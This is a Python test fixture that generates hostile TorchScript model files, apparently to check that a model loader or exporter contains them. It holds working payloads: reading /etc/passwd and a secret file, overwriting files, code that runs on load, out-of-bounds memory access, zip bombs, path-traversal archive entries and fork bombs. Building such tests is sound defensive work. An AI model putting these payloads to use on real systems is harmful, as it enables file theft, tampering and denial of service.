"""Models that do harm: each a small TorchScript file that tries to reach what is not its own.

`make(folder, outside)` writes them all into `folder`; `outside` is the folder that they go for. It holds `victim`, which none of them may change,
and `secret`, which none may read.
"""

import shutil
import zipfile
from pathlib import Path

import torch
from torch import Tensor, nn

SECRET = "the-secret-of-the-user"
VICTIM = "untouched" * 100
INPUT = (2, 8)


def prepare(outside: Path) -> None:
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "victim").write_text(VICTIM)
    (outside / "secret").write_text(SECRET)


def script(body: str, names: dict) -> torch.jit.ScriptModule:
    """A module with a layer and a SiLU, whose forward does `body` to x before. TorchScript reads it from source text."""
    lines = "\n".join("        " + line for line in body.strip().splitlines())
    source = f"""
class Hostile(nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = nn.Linear(8, 8)
        self.act = nn.SiLU()

    def forward(self, x: Tensor) -> Tensor:
{lines}
        return self.act(self.layer(x))
"""
    return compile_class(source.format_map(Quoted(names)))


class Quoted(dict):
    """Leaves braces alone that are none of its names."""

    def __missing__(self, key: str) -> str:
        return "{" + key + "}"


def compile_class(source: str) -> torch.jit.ScriptModule:
    import importlib.util
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "hostile_source.py"
        path.write_text("import torch\nfrom torch import Tensor, nn\nfrom typing import List, Tuple\n" + source)
        spec = importlib.util.spec_from_file_location("hostile_source", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return torch.jit.script(module.Hostile().eval())


FORWARDS = {
    "writes": 'torch.save(x, "{outside}/new")',
    "overwrites": 'torch.save(x, "{outside}/victim")',
    "maps to write": 'y = torch.from_file("{outside}/victim", True, 100, dtype=torch.uint8)\ny.fill_(88)',
    "makes by mapping": 'y = torch.from_file("{outside}/new", True, 100, dtype=torch.uint8)\ny.fill_(88)',
    # Its bytes would be in the outputs, and so in the self-test of the export.
    "reads": 'y = torch.from_file("{outside}/secret", False, 22, dtype=torch.uint8)\nprint("".join([chr(int(c)) for c in y]))\nx = x + y[:8].float()',
    "reads passwords": 'y = torch.from_file("/etc/passwd", False, 8, dtype=torch.uint8)\nprint("".join([chr(int(c)) for c in y]))\nx = x + y.float()',
    "reads beyond": "y = torch.ops.inductor._reinterpret_tensor(x, [1 << 30], [1 << 20], 0)\nx = x + y[:8]",
    "writes beyond": "y = torch.ops.inductor._reinterpret_tensor(x, [1 << 22], [1], 1 << 14)\ny.fill_(1.0)",
    "resizes its storage": "y = x.clone()\ntorch.ops.inductor.resize_storage_bytes_(y, 4)\ny.resize_([1 << 20])\nx = x + y[:8]",
    "asks for ten terabytes": "y = torch.zeros([10, 1 << 20, 1 << 20])\nx = x + y[0, 0, :8]",
    "fills the memory": "y = [x]\nfor i in range(1 << 30):\n    y.append(torch.ones([1 << 24]))",
    "never ends": "while bool(torch.isfinite(x.sum())):\n    x = x * 1.0",
}

# Code that runs while the file is read.
LOADING = """
class Hostile(nn.Module):
    def __init__(self):
        super().__init__()
        self.weight = torch.ones(8, 8)

    @torch.jit.export
    def __getstate__(self) -> Tuple[Tensor, bool]:
        return self.weight, self.training

    @torch.jit.export
    def __setstate__(self, state: Tuple[Tensor, bool]) -> None:
        self.weight = state[0]
        self.training = state[1]
        {body}

    def forward(self, x: Tensor) -> Tensor:
        return torch.nn.functional.silu(x @ self.weight)
"""

WHOLE = {
    "writes while it is loaded": LOADING.replace("{body}", 'torch.save(state[0], "{outside}/new")'),
    "never loads": LOADING.replace("{body}", "while bool(self.weight.sum() > 0):\n            self.weight = self.weight * 1.0"),
    "forks without end": """
def again(x: Tensor, depth: int) -> Tensor:
    futures = [torch.jit.fork(half, x) for _ in range(1 << depth)]
    return torch.stack([torch.jit.wait(future) for future in futures]).sum(0)


def half(x: Tensor) -> Tensor:
    for _ in range(1 << 30):
        x = x * 0.5 + torch.ones([1 << 10, 8]).sum(0)
    return x


class Hostile(nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = nn.Linear(8, 8)

    def forward(self, x: Tensor) -> Tensor:
        return torch.nn.functional.silu(self.layer(again(x, 12)))
""",
}


def rewritten(sound: Path, path: Path, change) -> None:
    """The archive with its records changed: change(name, data) gives pairs of names and data."""
    with zipfile.ZipFile(sound) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as new:
        for name in old.namelist():
            for name_now, data, compression in change(name, old.read(name)):
                new.writestr(zipfile.ZipInfo(name_now), data, compression)


def zip_bomb(name: str, data: bytes) -> list:
    """A gigabyte of zeros in a megabyte, as the code of the model."""
    if name.endswith(".py"):
        return [(name, data + b" " * (1 << 30), zipfile.ZIP_DEFLATED)]
    return [(name, data, zipfile.ZIP_STORED)]


def short_storage(name: str, data: bytes) -> list:
    return [(name, data[:4] if "/data/" in name and len(data) > 100 else data, zipfile.ZIP_STORED)]


def deep_nesting(name: str, data: bytes) -> list:
    if name.endswith(".py"):
        data = data.replace(b"def forward", b"def deep(self) -> " + b"List[" * 10000 + b"int" + b"]" * 10000 + b":\n    return []\n  def forward", 1)
    return [(name, data, zipfile.ZIP_STORED)]


def leading_out(name: str, data: bytes) -> list:
    records = [(name, data, zipfile.ZIP_STORED)]
    if name.endswith("data.pkl"):
        records += [("../victim", b"changed", zipfile.ZIP_STORED), ("/../../../../../../../../tmp/actswap_hostile", b"changed", zipfile.ZIP_STORED)]
    return records


ARCHIVES = {
    "unpacks to a gigabyte": zip_bomb,
    "has short storages": short_storage,
    "nests ten thousand deep": deep_nesting,
    "has a record that leads out": leading_out,
}


def make(folder: Path, outside: Path) -> dict:
    """@returns the files by what they do"""
    folder.mkdir(parents=True, exist_ok=True)
    names = {"outside": outside}
    files = {}

    def place(what: str) -> Path:
        files[what] = folder / (what.replace(" ", "_") + ".pt")
        return files[what]

    sound = folder / "sound.pt"
    script("x = x + 0", names).save(sound)
    for what, body in FORWARDS.items():
        script(body, names).save(place(what))
    for what, source in WHOLE.items():
        compile_class(source.format_map(Quoted(names))).save(place(what))
    for what, change in ARCHIVES.items():
        rewritten(sound, place(what), change)
    place("is a link to a device").symlink_to("/dev/zero")
    place("is a link to a secret").symlink_to(outside / "secret")
    shutil.copy(sound, place("is sound"))
    return files
